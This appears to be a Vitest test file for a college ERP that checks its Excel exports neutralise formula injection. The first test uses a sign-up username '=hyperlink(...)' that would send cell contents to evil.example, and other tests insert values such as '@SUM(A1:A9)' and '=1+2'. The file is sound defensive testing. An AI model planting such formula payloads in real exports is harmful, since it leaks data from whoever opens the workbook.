import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { desc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dayIn } from '@campus/shared';
import { users } from '../src/features/auth/auth.table.js';
import { feeCollections } from '../src/features/payments/payments.table.js';
import { students } from '../src/features/admissions/students.table.js';
import { casteCategories } from '../src/features/masterdata/masterdata.table.js';
import { bearer, createTestApp, engineFree, signUpBody, type TestApp } from './helpers.js';

/** Debian's interpreter, which has Debian's openpyxl (another python3 may come first on the PATH). */
const PYTHON = '/usr/bin/python3';

/** Every cell of every sheet as JSON lines: sheet, cell, value (text as written), openpyxl's type. */
const READ = `
import sys, json, datetime, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
for ws in wb.worksheets:
    for row in ws.iter_rows():
        for c in row:
            if c.value is None: continue
            v = c.value.isoformat() if isinstance(c.value, (datetime.date, datetime.datetime)) else c.value
            print(json.dumps([ws.title, c.coordinate, v, c.data_type]))
`;

type Cell = [sheet: string, ref: string, value: string | number, type: string];

const FORMULA_START = /^[=+\-@\t\r]/;

/** Issue 35, finding 9: text that a spreadsheet would take for a formula is neutralised in every export (ADR 0091). */
describe.runIf(engineFree)('exports neutralise formulas', () => {
  let t: TestApp;
  let admin: Record<string, string>;
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'campus-formulas-'));

  beforeAll(async () => {
    t = await createTestApp('pglite', { seed: { students: 5 }, env: { LOGIN_RATE_LIMIT: '0' } });
    admin = await bearer(t.app, 'admin');
  });
  afterAll(async () => {
    await t?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  /** Downloads a workbook (raw, or base64 in a JSON field) and answers every cell as openpyxl reads it. */
  function cellsOf(file: Buffer, name: string): Cell[] {
    const at = path.join(dir, `${name}.xlsx`);
    fs.writeFileSync(at, file);
    return execFileSync(PYTHON, ['-c', READ, at], { encoding: 'utf8' })
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Cell);
  }

  /** No text cell of the workbook begins like a formula, and none is a formula. */
  function expectNoFormulas(cells: Cell[]) {
    expect(cells.filter(([, , v, type]) => type === 'f' || (typeof v === 'string' && FORMULA_START.test(v)))).toEqual([]);
  }

  it('writes a user name anyone can choose at sign-up behind a quote in the audit log export', async () => {
    const username = '=hyperlink("http://evil.example/?leak="&a1,"details")';
    const signUp = await t.app.inject({
      method: 'POST',
      url: '/api/auth/signup',
      payload: signUpBody({ fullName: '@SUM(1+1) Kumar', username, email: `formula${Date.now()}@college.example`, module: 'erp' }),
    });
    expect(signUp.statusCode).toBe(200);
    const [row] = await t.database.db.select().from(users).where(eq(users.username, username));
    const approved = await t.app.inject({
      method: 'POST',
      url: `/api/users/${row!.id}/approve`,
      headers: admin,
      payload: { roles: ['ROLE_ACCOUNTANT'], modules: [] },
    });
    expect(approved.statusCode).toBe(200);
    // The new user acts: the audit log names them as the one who did it.
    const own = await bearer(t.app, username, 'secret1');
    const changed = await t.app.inject({
      method: 'POST',
      url: '/api/auth/resetUserPasswords',
      headers: own,
      payload: { username, oldpassword: 'secret1', newPassword: 'Fresh#2026a' },
    });
    expect(changed.json()).toMatchObject({ status: 1 });

    const res = await t.app.inject({ method: 'GET', url: '/api/audit-log/export.xlsx', headers: admin });
    expect(res.statusCode).toBe(200);
    const cells = cellsOf(res.rawPayload, 'audit');
    expectNoFormulas(cells);
    const userColumn = cells.filter(([sheet, ref]) => sheet === 'Audit log' && ref.startsWith('C'));
    expect(userColumn.map(([, , v]) => v)).toContain(`'${username}`);
    expect(userColumn.find(([, , v]) => v === `'${username}`)?.[3]).toBe('s');
  });

  it('writes gateway references and student names behind a quote in the collections export, and amounts as numbers', async () => {
    const { db } = t.database;
    const [collection] = await db.select().from(feeCollections).orderBy(desc(feeCollections.paidAt)).limit(1);
    expect(collection).toBeDefined();
    await db.update(feeCollections).set({ rrn: '-2+3', transactionUuid: '@SUM(A1:A9)' }).where(eq(feeCollections.id, collection!.id));
    await db.update(students).set({ fullName: '+91 Ravi' }).where(eq(students.id, collection!.studentId));
    const day = dayIn('Asia/Kolkata', collection!.paidAt.getTime());

    const res = await t.app.inject({ method: 'GET', url: `/api/payments/collections.xlsx?from=${day}&to=${day}`, headers: admin });
    expect(res.statusCode).toBe(200);
    const cells = cellsOf(res.rawPayload, 'collections');
    expectNoFormulas(cells);
    const values = cells.filter(([sheet]) => sheet === 'Collections').map(([, , v]) => v);
    expect(values).toEqual(expect.arrayContaining(["'-2+3", "'@SUM(A1:A9)", "'+91 Ravi"]));
    // Amounts stay number cells.
    const amounts = cells.filter(([sheet, ref]) => sheet === 'Collections' && /^K\d+$/.test(ref) && ref !== 'K1');
    expect(amounts.length).toBeGreaterThan(0);
    for (const [, ref, value, type] of amounts) expect([ref, typeof value, type]).toEqual([ref, 'number', 'n']);
  });

  it("writes a student's name behind a quote in the new logins' workbook, and the first password as it is", async () => {
    const wanted = await t.app.inject({ method: 'GET', url: '/api/users/logins-to-create?kind=student', headers: admin });
    expect(wanted.statusCode).toBe(200);
    const free = await t.database.db.select().from(students);
    const taken = new Set((await t.database.db.select({ id: users.studentId }).from(users)).map((u) => u.id));
    const without = free.find((s) => !taken.has(s.id));
    expect(without).toBeDefined();
    await t.database.db.update(students).set({ fullName: '=1+2' }).where(eq(students.id, without!.id));

    const res = await t.app.inject({ method: 'POST', url: '/api/createStudentLogins', headers: admin });
    expect(res.statusCode).toBe(200);
    const cells = cellsOf(Buffer.from(res.json().file as string, 'base64'), 'logins');
    expectNoFormulas(cells);
    const rowOf = cells.find(([, , v]) => v === "'=1+2")?.[1].slice(1);
    expect(rowOf).toBeDefined();
    const password = cells.find(([, ref]) => ref === `E${rowOf}`)?.[2] as string;
    expect(password).toMatch(/^[A-Za-z0-9]/);
  });

  it("writes a master-data name behind a quote in the admission template's lists", async () => {
    const [category] = await t.database.db.select().from(casteCategories).limit(1);
    await t.database.db.update(casteCategories).set({ code: '-NRI' }).where(eq(casteCategories.id, category!.id));
    const res = await t.app.inject({ method: 'GET', url: '/api/getExcelForNewAdmissions', headers: await bearer(t.app, 'admissions') });
    expect(res.statusCode).toBe(200);
    const cells = cellsOf(res.rawPayload, 'admission-template');
    expectNoFormulas(cells);
    expect(cells.filter(([sheet]) => sheet === 'Lists').map(([, , v]) => v)).toContain("'-NRI");
  });

  it('writes no text that reads as a formula in the exam results template', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/exam-results/template', headers: await bearer(t.app, 'examination') });
    expect(res.statusCode).toBe(200);
    expectNoFormulas(cellsOf(res.rawPayload, 'results-template'));
  });
});
